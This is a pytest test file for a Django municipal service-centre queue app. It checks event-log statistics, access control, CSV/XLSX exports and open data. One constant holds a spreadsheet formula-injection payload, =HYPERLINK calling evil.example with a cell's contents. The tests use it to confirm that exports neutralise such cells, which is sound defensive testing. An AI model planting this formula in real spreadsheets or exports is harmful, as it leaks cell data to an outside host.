"""Statistics from the event log: exact numbers on a hand-built day, who sees what, exports."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hromada.cnap import stats
from hromada.cnap.models import Office, QueueEvent, Ticket
from hromada.core.models import Department
from tests.cnap.conftest import at, make_office, make_service
from tests.factories import client_for, make_resident, make_staff

EV = QueueEvent.Action
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
pytestmark = pytest.mark.django_db


def visit(office, service, number, steps, *, kind=Ticket.Kind.WALK_IN, priority=None, day=-1):
    """Make a ticket yesterday and its events: steps are (action, hour, minute, actor, outcome)."""
    ticket = Ticket.objects.create(
        community_id=office.community_id, office=office, day=at(day, 0).date(), series="А",
        number=number, service=service, kind=kind, priority=priority, status=Ticket.Status.DONE,
    )  # fmt: skip
    for action, hour, minute, actor, outcome in steps:
        QueueEvent.objects.create(
            community_id=office.community_id, office=office, ticket=ticket, service=service,
            actor=actor, action=action, outcome=outcome, priority=priority is not None,
            at=at(day, hour, minute),
        )  # fmt: skip
    return ticket


@pytest.fixture
def day(community, office, passport, residence, operators, veterans):
    """Five visits at the central office and one at a village's remote workplace."""
    one, two = operators[0], operators[1]
    served = Ticket.Outcome.SERVED
    visit(office, passport, 1, [(EV.ISSUED, 9, 0, None, ""), (EV.CALLED, 9, 10, one, ""),
          (EV.STARTED, 9, 12, one, ""), (EV.FINISHED, 9, 27, one, served)])  # fmt: skip
    visit(office, passport, 2, [(EV.ISSUED, 9, 0, None, ""), (EV.CALLED, 9, 2, two, ""),
          (EV.STARTED, 9, 2, two, ""), (EV.FINISHED, 9, 7, two, served)],
          priority=veterans)  # fmt: skip
    visit(office, passport, 3, [(EV.CHECKED_IN, 9, 5, None, ""), (EV.CALLED, 9, 35, one, ""),
          (EV.FINISHED, 9, 45, one, Ticket.Outcome.NEEDS_DOCUMENTS)],
          kind=Ticket.Kind.BOOKED)  # fmt: skip
    visit(office, passport, 4, [(EV.ISSUED, 9, 10, None, ""), (EV.CALLED, 9, 30, two, ""),
          (EV.RECALLED, 9, 32, two, ""), (EV.RECALLED, 9, 34, two, ""),
          (EV.NO_SHOW, 9, 36, two, "")])  # fmt: skip
    visit(office, passport, 5, [(EV.ISSUED, 9, 20, None, ""), (EV.CALLED, 9, 40, one, ""),
          (EV.STARTED, 9, 41, one, ""), (EV.TRANSFERRED, 9, 43, one, ""),
          (EV.CALLED, 9, 50, two, ""), (EV.STARTED, 9, 50, two, ""),
          (EV.FINISHED, 10, 10, two, served)])  # fmt: skip
    department = Department.objects.create(
        community=community, name="Олександрівський старостинський округ"
    )
    village = make_office(
        community, "Олександрівка", kind=Office.Kind.REMOTE, department=department
    )
    visit(village, residence, 1, [(EV.ISSUED, 11, 0, None, ""), (EV.CALLED, 11, 4, two, ""),
          (EV.FINISHED, 11, 10, two, served)])  # fmt: skip
    return {"office": office, "village": village, "department": department}


def test_percentiles_interpolate_like_percentile_cont():
    assert stats.percentile([2, 10, 20, 20, 30], 0.9) == pytest.approx(26)
    assert stats.percentile([5, 10, 15, 20], 0.5) == pytest.approx(12.5)
    assert stats.percentile([7], 0.9) == 7
    assert stats.percentile([], 0.5) is None


def test_a_hand_built_day_gives_exact_numbers(community, day, head):
    filters = stats.Filters(
        start=at(-1, 0).date(), end=at(-1, 0).date(), office_id=day["office"].pk
    )
    found = stats.statistics(staff=head, community=community, filters=filters)
    total = found["total"]
    # Waits 10, 2, 30, 20, 20 min; at the finishing desk 15, 5, 10 (no start: from the call), 20.
    assert {key: total[key] for key in stats.FIELDS[2:]} == {
        "tickets": 5, "visitors": 4, "served": 3, "no_shows": 1, "booked": 1, "priority": 1,
        "booked_share": 0.2, "priority_share": 0.2, "no_show_share": 0.2, "transfers": 1,
        "wait_mean": 16.4, "wait_p50": 20.0, "wait_p90": 26.0,
        "service_mean": 12.5, "service_p50": 12.5, "service_p90": 18.5,
    }  # fmt: skip
    assert [row["tickets"] for row in found["rows"]] == [5]


def test_per_operator_and_per_office(community, day, head, operators):
    yesterday = at(-1, 0).date()
    filters = stats.Filters(start=yesterday, end=yesterday, group="operator")
    rows = stats.statistics(staff=head, community=community, filters=filters)["rows"]
    by_key = {row["key"]: row for row in rows}
    # The one who ended a visit owns it: operator 2 finished the transferred one.
    assert by_key[operators[0].pk]["visitors"] == 2
    assert by_key[operators[1].pk]["visitors"] == 3
    assert by_key[operators[1].pk]["no_shows"] == 1
    filters = stats.Filters(start=yesterday, end=yesterday, group="office", period="month")
    rows = stats.statistics(staff=head, community=community, filters=filters)["rows"]
    assert sorted((row["group"], row["tickets"]) for row in rows) == [
        ("Олександрівка", 1),
        ("ЦНАП", 5),
    ]
    assert {row["period"] for row in rows} == {yesterday.replace(day=1)}


def test_a_starosta_sees_only_their_office(community, day):
    starosta = make_staff(community, "starosta", department=day["department"])
    response = client_for(starosta).get(reverse("cnap:statistics"))
    assert response.status_code == 200
    assert response.context["total"]["tickets"] == 1
    assert [office.name for office in response.context["offices"]] == ["Олександрівка"]
    response = client_for(starosta).get(reverse("cnap:statistics") + f"?office={day['office'].pk}")
    assert response.status_code == 404


def test_residents_operators_and_another_communitys_staff_are_refused(
    community, other_community, day, operators
):
    url = reverse("cnap:statistics")
    assert client_for(make_resident(community)).get(url).status_code == 403
    assert client_for(operators[0]).get(url).status_code == 403
    assert client_for(make_staff(other_community, "cnap_head")).get(url).status_code == 403
    assert (
        client_for(make_resident(community))
        .get(url.replace("statistics/", "statistics/export.csv"))
        .status_code
        == 403
    )
    # On its own host, the other head does not find this community's office.
    other_head = make_staff(other_community, "cnap_head")
    response = client_for(other_head, host="pivdenne.localhost").get(
        f"{url}?office={day['office'].pk}"
    )
    assert response.status_code == 404


def test_a_year_at_most(community, head):
    start = at(-400, 0).date()
    response = client_for(head).get(reverse("cnap:statistics") + f"?from={start}")
    assert response.status_code == 400


@pytest.fixture
def hostile(community, office, operators):
    service = make_service(community, HYPERLINK, "99999")
    visit(office, service, 7, [(EV.ISSUED, 12, 0, None, ""), (EV.CALLED, 12, 6, operators[0], ""),
          (EV.FINISHED, 12, 9, operators[0], Ticket.Outcome.SERVED)])  # fmt: skip
    return service


def test_csv_and_xlsx_downloads_have_the_rows_and_neutralised_cells(community, day, hostile, head):
    query = "?group=service&period=day"
    response = client_for(head).get(reverse("cnap:statistics_export", args=["csv"]) + query)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    groups = {row["group"]: row for row in rows}
    assert set(groups) == {
        "Оформлення паспорта громадянина України у формі ID-картки",
        "Реєстрація місця проживання",
        "'" + HYPERLINK,
    }
    assert groups["'" + HYPERLINK]["wait_mean"] == "6.0"
    response = client_for(head).get(reverse("cnap:statistics_export", args=["xlsx"]) + query)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(stats.FIELDS)
    assert len(values) == 4
    assert sorted(row[2] for row in values[1:]) == [1, 1, 5]  # numbers stay numbers
    assert "'" + HYPERLINK in {row[1] for row in values[1:]}
    assert HYPERLINK not in {row[1] for row in values[1:]}
    open_rows = list(csv.DictReader(io.StringIO(
        client_for().get(reverse("cnap:open_data") + "?format=csv").content.decode("utf-8-sig")
    )))  # fmt: skip
    names = {row["service_name"] for row in open_rows}
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names


def test_the_open_data_set_has_no_personal_data(community, day, hostile):
    response = client_for().get(reverse("cnap:open_data") + "?format=json")
    assert response.status_code == 200
    rows = response.json()
    assert set(rows[0]) == set(stats.OPEN_DATA_FIELDS)
    personal = {"name", "full_name", "phone", "email", "resident", "operator", "ticket", "code"}
    assert not personal & set(stats.OPEN_DATA_FIELDS)
    text = response.content.decode()
    for resident in Ticket.objects.values_list("resident__email", flat=True):
        assert not resident or resident not in text
    central = [row for row in rows if row["office"] == "ЦНАП" and row["service_code"] == "00001"]
    assert central == [{
        "date": str(at(-1, 0).date()), "office": "ЦНАП", "office_kind": "central",
        "service_code": "00001",
        "service_name": "Оформлення паспорта громадянина України у формі ID-картки",
        "tickets": 5, "services_provided": 3, "no_shows": 1, "booked": 1,
        "average_wait_min": 16.4, "average_service_min": 12.5,
    }]  # fmt: skip


def test_the_api_gives_the_numbers_to_staff_only(community, day, head, resident):
    yesterday = at(-1, 0).date()
    url = f"/api/v1/cnap/statistics?from={yesterday}&to={yesterday}&office={day['office'].pk}"
    response = client_for(head).get(url)
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["total"]["wait_p90"] == 26.0 and body["total"]["no_shows"] == 1
    refused = client_for(resident).get(url)
    assert refused.status_code == 403
    assert refused.json()["error"]["code"] == "cnap_forbidden"
    too_long = client_for(head).get(
        f"/api/v1/cnap/statistics?from={yesterday - timedelta(days=400)}"
    )
    assert too_long.status_code == 400 and too_long.json()["error"]["fields"]["to"]
    assert client_for(head).get("/api/v1/cnap/statistics?from=99999-01-01").status_code == 422
